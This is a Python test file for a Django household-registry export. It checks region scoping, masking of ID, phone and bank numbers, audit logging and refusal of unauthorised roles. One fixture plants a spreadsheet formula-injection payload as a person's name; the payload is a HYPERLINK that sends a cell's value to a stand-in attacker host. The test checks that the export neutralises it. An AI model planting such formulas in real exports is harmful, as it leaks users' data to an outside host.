"""Roster export: scope, masking, formula neutralisation, audit."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from jiuzhu.conftest import PASSWORD
from jiuzhu.core.models import AuditEntry
from jiuzhu.registry.models import Relation

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def households(county, make_household):
    a1 = make_household(
        county.village_a1,
        [("王建国", dt.date(1948, 2, 3), Relation.SELF, {}), ("刘桂英", dt.date(1950, 7, 9), Relation.SPOUSE, {})],
        phone="13812345678",
        bank_account="6228480012345678901",
    )
    a2 = make_household(county.village_a2, [(FORMULA, dt.date(1990, 1, 1), Relation.SELF, {})])
    b1 = make_household(county.village_b1, [("孙大山", dt.date(1960, 1, 1), Relation.SELF, {})])
    return {"a1": a1, "a2": a2, "b1": b1}


def export(client, user, **params):
    assert client.login(username=user.username, password=PASSWORD)
    return client.get(reverse("registry:export"), params)


def rows_of(response):
    data = b"".join(response.streaming_content)
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return [
        [("" if v is None else str(v)) for v in r]
        for r in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)
    ]


def column(rows, header):
    i = rows[0].index(header)
    return [r[i] for r in rows[1:]]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_outsider_sees_none_of_township_a(client, households, caseworker_b, fmt):
    rows = rows_of(export(client, caseworker_b, format=fmt))
    assert column(rows, "姓名") == ["孙大山"]
    assert all(not code.startswith("330727100") for code in column(rows, "村（社区）区划代码"))


def test_a_region_prefix_narrows_the_export_but_never_widens_it(client, households, approver, caseworker_b):
    assert set(column(rows_of(export(client, approver, region="330727100")), "姓名")) == {
        "王建国",
        "刘桂英",
        "'" + FORMULA,
    }
    client.logout()
    assert column(rows_of(export(client, caseworker_b, region="330727100")), "姓名") == []


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formulas_are_neutralised(client, households, caseworker_a, fmt):
    rows = rows_of(export(client, caseworker_a, format=fmt))
    names = column(rows, "姓名")
    assert "'" + FORMULA in names and FORMULA not in names


def test_a_user_without_the_permission_gets_masked_numbers(client, households, head_a):
    rows = rows_of(export(client, head_a))
    wang = households["a1"].members.get(name="王建国")
    ids = column(rows, "身份证号")
    assert wang.id_masked in ids and wang.id_number not in ids
    assert "138****5678" in column(rows, "联系电话")
    assert "6228480012345678901" not in column(rows, "银行账号")
    assert export(client, head_a, full="1").status_code == 403


def test_full_numbers_for_a_user_with_the_permission_who_asks(client, households, caseworker_a):
    wang = households["a1"].members.get(name="王建国")
    assert wang.id_number not in column(rows_of(export(client, caseworker_a)), "身份证号")
    rows = rows_of(export(client, caseworker_a, full="1"))
    assert wang.id_number in column(rows, "身份证号")
    assert "13812345678" in column(rows, "联系电话")


def test_every_export_is_in_the_audit_log(client, households, caseworker_a):
    export(client, caseworker_a, format="csv", full="1")
    entry = AuditEntry.objects.get(action="export")
    assert entry.actor == caseworker_a and entry.region_code == "330727100"
    assert entry.after == {"persons": 3, "format": "csv", "region": "330727100", "full": True}


def test_labels_are_chinese_and_the_export_reads_like_the_import_sheet(client, households, caseworker_a):
    rows = rows_of(export(client, caseworker_a))
    assert set(column(rows, "与户主关系")) == {"户主", "配偶"}
    assert set(column(rows, "城乡类别")) == {"城镇", "农村"}
    assert set(column(rows, "患重特大疾病")) == {"否"}


@pytest.mark.parametrize("persona", ["clerk_a", "auditor"])
def test_roles_without_export_rights_are_refused(client, request, households, persona):
    assert export(client, request.getfixturevalue(persona)).status_code == 403
    assert not AuditEntry.objects.filter(action="export").exists()
